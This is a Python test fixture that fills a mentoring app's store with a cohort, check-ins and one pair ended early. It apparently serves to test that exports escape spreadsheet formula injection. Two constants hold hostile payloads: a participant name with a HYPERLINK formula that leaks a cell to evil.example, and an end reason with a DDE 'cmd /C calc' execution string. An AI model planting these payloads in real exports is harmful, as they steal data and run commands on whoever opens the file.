"""A cohort in the store whose check-in answers name introductions, upcoming
decisions and blockers, written through the same store functions the
activities use; one pair ended early and has names and reasons a spreadsheet
would run as formulas."""

from __future__ import annotations

from datetime import UTC, date, datetime, timedelta
from pathlib import Path

from sqlalchemy.orm import Session

from mentorflow import models
from mentorflow.program import load_program
from mentorflow.store import cohorts
from mentorflow.store import mentorships as store

EXAMPLES = Path(__file__).resolve().parents[2] / "examples"
COHORT = "2025-spring"
START = datetime(2025, 3, 3, 9, 0, tzinfo=UTC)
HOSTILE_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'
HOSTILE_REASON = "@SUM(1+1)*cmd|' /C calc'!A0"
OPEN_BLOCKER = "-2 people on the team since the reorg: no time for the project"


def _person(employee_id: str, name: str) -> models.Participant:
    return models.Participant(
        employee_id=employee_id, email=f"{employee_id}@example.com", name=name, timezone="UTC"
    )


ADA, GRACE = _person("e100", "Ada Lovelace"), _person("e200", "Grace Hopper")
ALAN, EDSGER = _person("e300", "Alan Turing"), _person("e400", "Edsger Dijkstra")
BARBARA, HOSTILE = _person("e500", "Barbara Liskov"), _person("e600", HOSTILE_NAME)
#: Running; its latest blocker (check-in 2) is open.
BLOCKED = models.mentorship_workflow_id(COHORT, ADA.employee_id, GRACE.employee_id)
#: Running; its blocker of check-in 1 is gone by check-in 2.
UNBLOCKED = models.mentorship_workflow_id(COHORT, ALAN.employee_id, EDSGER.employee_id)
#: Ended early: its blocker is no longer HR's to solve.
ENDED = models.mentorship_workflow_id(COHORT, BARBARA.employee_id, HOSTILE.employee_id)


def _answer(session: Session, pair: str, number: int, by: models.Participant, **said: str) -> None:
    # The mentor answers an hour after the mentee.
    later = 1 if by.employee_id in (ADA.employee_id, ALAN.employee_id, BARBARA.employee_id) else 0
    submitted = START + timedelta(weeks=2 * number, hours=later)
    store.record_checkin_answer(
        session,
        models.CheckInAnswerRecord(
            mentorship_id=pair,
            answer=models.CheckInAnswer(
                by=by.employee_id, number=number, met=models.MeetingStatus.YES, value=4, **said
            ),
            submitted_at=submitted,
        ),
    )


def _checkin(session: Session, pair: str, number: int, *people: models.Participant) -> None:
    opens = START + timedelta(weeks=2 * number)
    store.record_checkin_opened(
        session,
        models.CheckInOpened(
            mentorship_id=pair,
            number=number,
            due_date=opens.date(),
            opens={p.employee_id: opens for p in people},
            closes={p.employee_id: opens + timedelta(days=3) for p in people},
        ),
    )


def cohort_with_answers(session: Session) -> None:
    program = load_program(EXAMPLES / "program.yaml")
    cohorts.create_cohort(
        session, COHORT, program, opens_at=START, closes_at=START + timedelta(days=14)
    )
    for pair, mentor, mentee in (
        (BLOCKED, ADA, GRACE),
        (UNBLOCKED, ALAN, EDSGER),
        (ENDED, BARBARA, HOSTILE),
    ):
        store.record_mentorship_started(
            session,
            models.MentorshipRecord(
                mentorship_id=pair,
                cohort=COHORT,
                program=models.ProgramSettings(program_name=program.program_name),
                mentor=mentor,
                mentee=mentee,
                started_at=START,
            ),
        )
        for number in (1, 2):
            _checkin(session, pair, number, mentor, mentee)

    _answer(
        session,
        BLOCKED,
        1,
        GRACE,
        introductions="Met Priya from Platform",
        blockers="No access to the staging cluster",
    )
    _answer(session, BLOCKED, 1, ADA, upcoming_decisions="Whether Grace applies for staff")
    _answer(session, BLOCKED, 2, GRACE, blockers=f"  {OPEN_BLOCKER}\n")
    _answer(session, BLOCKED, 2, ADA, introductions="Introduced Grace to the CTO")
    _answer(session, UNBLOCKED, 1, ALAN, blockers="Team reorg")
    _answer(session, UNBLOCKED, 2, EDSGER, wins="Shipped it")
    _answer(session, ENDED, 1, HOSTILE, blockers="Moving team", upcoming_decisions="   ")
    store.record_status(
        session,
        models.StatusRecord(
            mentorship_id=ENDED,
            phase=models.Phase.CLOSED,
            outcome=models.Outcome.ENDED_EARLY,
            reason=HOSTILE_REASON,
            at=START + timedelta(weeks=5),
        ),
    )


#: When Grace named the open blocker (check-in 2).
OPEN_BLOCKER_ON = date(2025, 3, 31)
